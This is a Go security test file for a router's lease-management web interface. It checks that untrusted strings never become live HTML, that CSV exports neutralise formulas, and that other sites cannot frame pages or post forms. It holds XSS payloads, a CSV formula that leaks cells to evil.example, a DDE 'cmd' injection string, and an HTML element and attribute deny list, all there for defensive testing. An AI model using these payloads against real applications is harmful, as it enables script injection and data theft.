package web_test

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/portreeve/portreeve/lease"
	"github.com/portreeve/portreeve/web"
)

// Every string that comes from somebody else, on every page, in every export and in the stream.

// evil is what an attacker calls something. Each place where a string comes in has one of its own, so that the test knows
// whether it was shown at all.
func evil(source string) string {
	return `"><img src=x onerror=pwned=1>'` + source + `'`
}

// sources are where strings come from: devices on the LAN, their names, the browser, the owner's other accounts, the machine.
func sources() []string {
	return []string{
		"description", "agent", "host name", "vendor", "browser", "denied description", "waiting description",
		"forward", "device", "note", "rule", "token", "notice", "trouble", "finding", "setting", "lease note",
	}
}

// hostile is a home of which each string is evil.
func hostile(t *testing.T) (h *home, owner *client) {
	t.Helper()
	h = furnished(t, func(c *web.Config) {
		c.DeviceName = func(lease.Lease) string { return evil("host name") }
		c.Vendor = func(string) string { return evil("vendor") }
		c.Check = func(context.Context) []web.Finding {
			return []web.Finding{{Subject: "firewall", What: evil("finding"), Do: evil("finding")}}
		}
		c.Settings = []web.Setting{{Name: "store.path", Value: evil("setting"), Set: true}}
		c.Neighbours = func() []web.Neighbour {
			return []web.Neighbour{{MAC: "00:50:f2:12:34:56", Addr: console, Network: "lan"}, {MAC: "02:00:00:00:00:77", Addr: netip.MustParseAddr("192.168.1.77"), Network: "lan"}}
		}
	})
	h.setFacts(func(f *web.Facts) { f.Notices = []string{evil("notice")} })
	ask := func(port uint16, from, source string) error {
		client := netip.MustParseAddr(from)
		_, err := h.manager.Open(t.Context(), lease.Request{
			Mapping: lease.Mapping{Protocol: lease.UDP, External: netip.AddrPortFrom(netip.Addr{}, port), Internal: netip.AddrPortFrom(client, port), Description: evil(source + "description")},
			Origin:  lease.OriginUPnP, Client: client, Lifetime: time.Hour, Agent: evil(source + "agent"),
		})
		return err
	}
	must(t, ask(6000, "192.168.1.50", ""))
	if ask(445, "192.168.1.50", "denied ") == nil {
		t.Fatal("port 445 was opened")
	}
	owner = h.owner()
	put := func(path string, v any) { t.Helper(); owner.want(http.StatusCreated, owner.post("/api/v1/"+path, v)) }
	put("rules", map[string]any{"kind": "forward", "name": evil("forward"), "protocol": "tcp", "ports": "2222", "to": "192.168.1.40"})
	put("tokens", web.TokenRequest{Name: evil("token"), Role: web.RoleViewer, LifetimeSeconds: 3600})
	for _, d := range []lease.Device{
		{MAC: "00:50:f2:12:34:56", Note: evil("note")},
		{MAC: "02:00:00:00:00:77", Name: evil("device")},
		{MAC: "00:50:f2:65:43:21", Access: lease.AccessAsk},
	} {
		_, err := h.manager.SetDevice(t.Context(), d, lease.DeviceOptions{By: lease.OriginWeb})
		must(t, err)
	}
	if err := ask(6001, "192.168.1.51", "waiting "); !errors.Is(err, lease.ErrWaiting) {
		t.Fatalf("a device that has to ask: %v", err)
	}
	policy := decode[web.Policy](t, owner.want(http.StatusOK, owner.get("/api/v1/policy")))
	owner.want(http.StatusSeeOther, owner.form("/policy/rules/new", "name="+url.QueryEscape(evil("rule"))+fmt.Sprint("&action=allow&ports=6005&do=save&version=", policy.Version)))
	id := h.manager.Snapshot().Leases
	owner.want(http.StatusSeeOther, owner.form("/leases/"+string(id[len(id)-1].ID), "note="+url.QueryEscape(evil("lease note"))))
	stranger := h.browser()
	stranger.want(http.StatusOK, stranger.send(http.MethodPost, "/api/v1/login", strings.NewReader(`{"password":"`+password+`"}`), "Content-Type", "application/json", "User-Agent", evil("browser")))
	h.firewall.SetFail(func(string) error { return errors.New(evil("trouble")) })
	_, _ = h.manager.CloseID(t.Context(), lease.Actor{Origin: lease.OriginCLI}, id[0].ID)
	return h, owner
}

// strangers returns what no page of ours contains: elements and attributes that run, load or send something elsewhere.
func strangers(root *html.Node) (found []string) {
	bad := []string{"img", "iframe", "object", "embed", "base", "style", "audio", "video", "frame", "applet", "marquee", "math"}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		script := n.Data == "script" && (n.FirstChild != nil || !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "src" && strings.HasPrefix(a.Val, "/assets/") }))
		if slices.Contains(bad, n.Data) || script {
			found = append(found, "an element "+n.Data)
		}
		for _, a := range n.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
				found = append(found, "an attribute "+a.Key)
			case slices.Contains([]string{"href", "src", "action", "formaction", "data", "poster", "xlink:href"}, a.Key) && !regexp.MustCompile(`^(/([^/]|$)|#|\?)`).MatchString(a.Val):
				found = append(found, a.Key+" to "+a.Val)
			}
		}
	}
	return found
}

func parse(t *testing.T, text string) *html.Node {
	t.Helper()
	root, err := html.Parse(strings.NewReader(text))
	must(t, err)
	return root
}

func TestNoStringBecomesAPartOfAPage(t *testing.T) {
	h, owner := hostile(t)
	var shown strings.Builder // all that is text
	check := func(name, body string) {
		t.Helper()
		root := parse(t, body)
		for _, what := range strangers(root) {
			t.Errorf("%s has %s", name, what)
		}
		for n := range root.Descendants() {
			if n.Type == html.TextNode {
				shown.WriteString(n.Data + "\n")
			}
			for _, a := range n.Attr {
				shown.WriteString(a.Val + "\n")
			}
		}
	}
	all := slices.Concat(h.pagesOf(), []string{
		"/leases?group=app&q=" + url.QueryEscape(evil("search")), "/activity?q=" + url.QueryEscape(evil("search")), "/devices?all=1&q=" + url.QueryEscape(evil("search")),
		"/devices/02:00:00:00:00:77", "/policy?port=x&client=" + url.QueryEscape(evil("search")), "/forwards/new?lease=" + url.QueryEscape(evil("search")), "/leases/" + url.PathEscape(evil("search")),
		"/forwards/new?target=" + url.QueryEscape(evil("search")), "/leases?done=" + url.QueryEscape(evil("search")), "/policy/rules/new?name=" + url.QueryEscape(evil("search")),
	})
	leases := h.manager.Snapshot().Leases
	all = append(all, "/leases/"+string(leases[len(leases)-1].ID), "/forwards/new?lease="+string(leases[len(leases)-1].ID))
	for _, language := range []string{"en", "zh"} {
		for _, path := range all {
			a := owner.send(http.MethodGet, path, nil, "Accept-Language", language)
			if a.StatusCode >= 500 {
				t.Errorf("%s: status %d", path, a.StatusCode)
			}
			check(language+" "+path, string(a.body))
		}
		for _, page := range []string{"rows", "parts"} {
			s := h.stream(owner, "/live?page="+page, "Accept-Language", language)
			for {
				e := s.next("")
				check("the stream of "+page, "<table><tbody>"+e.data+"</tbody></table>"+e.data)
				if e.name == "status" {
					break
				}
			}
			s.close()
		}
	}
	for _, source := range sources() {
		if !strings.Contains(shown.String(), evil(source)) {
			t.Errorf("no page shows the %s, so this test has not looked at it", source)
		}
	}

	// What is no page is none for a browser either.
	for path, mediaType := range map[string]string{
		"/api/v1/leases": "application/json", "/api/v1/history": "application/json", "/api/v1/audit": "application/json", "/api/v1/nothing": "application/problem+json",
		"/leases.csv": "text/csv; charset=utf-8", "/leases.json": "application/json", "/activity.csv": "text/csv; charset=utf-8", "/activity.json": "application/json", "/api/v1/backup": "application/json",
	} {
		a := owner.get(path)
		if a.Header.Get("Content-Type") != mediaType || a.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s is %s, %s", path, a.Header.Get("Content-Type"), a.Header.Get("X-Content-Type-Options"))
		}
	}
}

// noStringRuns is the same in a browser: it opens all pages, and whatever it complains about fails the test.
func noStringRuns(t *testing.T, c *chromium) {
	h, _ := hostile(t)
	b := h.signedInAgain(t, c)
	for _, path := range append(h.pagesOf(), "/devices/02:00:00:00:00:77") {
		b.open(h.url + path)
		b.wait(`main h1`)
		if b.true(`"pwned" in window || document.querySelector("img, iframe, object, main script, [onerror], [onload]")`) {
			t.Errorf("%s: a string has become a part of the page", path)
		}
	}
	b.open(h.url + "/leases")
	b.wait(`#live:not([hidden])`) // and so do the rows that come by the stream
	b.eventually("the rows are there", `document.querySelector("#rows").textContent.includes("'description'") && !("pwned" in window)`)
}

// A spreadsheet takes what begins like a formula for one, and a formula may send the sheet elsewhere.
func TestExportsHoldNoFormulas(t *testing.T) {
	h := newHome(t, func(c *web.Config) { c.DeviceName = func(lease.Lease) string { return `@SUM(1)` } })
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", " =1", `"=1`, `,=1`, "x\",=1"}
	for n, text := range formulas {
		h.open(port(6000+uint16(n)), func(r *lease.Request) { r.Description, r.Agent = text, text })
	}
	owner := h.owner()
	for _, path := range []string{"/leases.csv", "/activity.csv"} {
		a := owner.want(http.StatusOK, owner.get(path))
		lines, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
		must(t, err)
		if len(lines) != len(formulas)+1 {
			t.Errorf("%s has %d lines for %d leases", path, len(lines), len(formulas))
		}
		for _, line := range lines[1:] {
			for i, cell := range line {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n") {
					t.Errorf("%s: %s is %q", path, lines[0][i], cell)
				}
			}
		}
		if !strings.Contains(string(a.body), "'=HYPERLINK") || !strings.Contains(a.Header.Get("Content-Disposition"), "attachment") {
			t.Errorf("%s: %s %.300s", path, a.Header.Get("Content-Disposition"), a.body)
		}
	}
}

// A page of another site may neither frame a page, nor read or send a form, nor open the stream, nor load what a session shows.
func TestNoOtherSiteFramesOrReads(t *testing.T) {
	h := furnished(t)
	owner := h.owner()
	for _, path := range append(h.pagesOf(), "/login", "/leases.csv", "/activity.json", "/api/v1/leases", "/api/openapi.yaml") {
		a := owner.get(path)
		policy := a.Header.Get("Content-Security-Policy")
		if !strings.Contains(policy, "frame-ancestors 'none'") || a.Header.Get("X-Frame-Options") != "DENY" {
			t.Errorf("%s can be framed: %q, %q", path, policy, a.Header.Get("X-Frame-Options"))
		}
		for _, loose := range []string{"unsafe-inline", "unsafe-eval", "*", "http:", "data:"} {
			if strings.Contains(policy, loose) {
				t.Errorf("%s: the policy allows %s: %s", path, loose, policy)
			}
		}
		if a.Header.Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("%s may be read by %s", path, a.Header.Get("Access-Control-Allow-Origin"))
		}
	}
	if c := owner.cookie(); c == nil {
		t.Error("no cookie")
	}
	login := h.browser().send(http.MethodPost, "/api/v1/login", strings.NewReader(`{"password":"`+password+`"}`), "Content-Type", "application/json")
	for _, c := range login.Cookies() {
		if c.SameSite != http.SameSiteStrictMode || !c.HttpOnly || c.Domain != "" || c.Path != "/" {
			t.Errorf("the cookie is %+v: want it for this site only, and not for scripts", c)
		}
	}
	// A name that points here is refused with everything there is, also to read.
	for _, path := range []string{"/", "/login", "/leases", "/live?page=rows", "/api/v1/leases", "/api/v1/events", "/api/v1/session", "/leases.csv", "/assets/app.css"} {
		owner.want(http.StatusMisdirectedRequest, owner.send(http.MethodGet, path, nil, "Host", "evil.example"))
	}
}

// Forms of pages are refused to other sites like the API.
func TestAWebSiteSendsNoForms(t *testing.T) {
	h := furnished(t)
	owner := h.owner()
	before := h.dump()
	l := string(h.manager.Snapshot().Leases[0].ID)
	for _, path := range []string{
		"/leases/" + l + "/close", "/leases/" + l, "/leases/selection", "/forwards", "/dmz", "/addresses", "/addresses/release", "/policy/rules/new", "/policy/settings",
		"/devices/00:50:f2:12:34:56", "/devices/00:50:f2:12:34:56/access", "/settings/password", "/settings/users", "/settings/tokens", "/settings/restore", "/pause", "/logout", "/notifications",
	} {
		for _, headers := range [][]string{{"Origin", "http://evil.example"}, {"Origin", "null"}, {"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}} {
			a := owner.send(http.MethodPost, path, strings.NewReader("access=deny&ports=1&do=save&name=eve&role=admin&password=a+good+password"), append(headers, "Content-Type", "application/x-www-form-urlencoded")...)
			if a.StatusCode != http.StatusForbidden {
				t.Errorf("%s with %v: status %d", path, headers, a.StatusCode)
			}
		}
	}
	if after := h.dump(); after != before {
		t.Errorf("something has changed:\n%s\nwas\n%s", after, before)
	}
	owner.want(http.StatusOK, owner.get("/leases"))
}

// dump is what is in force, in words.
func (h *home) dump() string {
	s := h.manager.Snapshot()
	var b strings.Builder
	for _, l := range s.Leases {
		fmt.Fprintln(&b, l.String())
	}
	for _, r := range s.Rules {
		fmt.Fprintln(&b, r.String())
	}
	fmt.Fprintln(&b, len(s.Own.Devices), s.Own.Devices["00:50:f2:12:34:56"])
	return b.String()
}
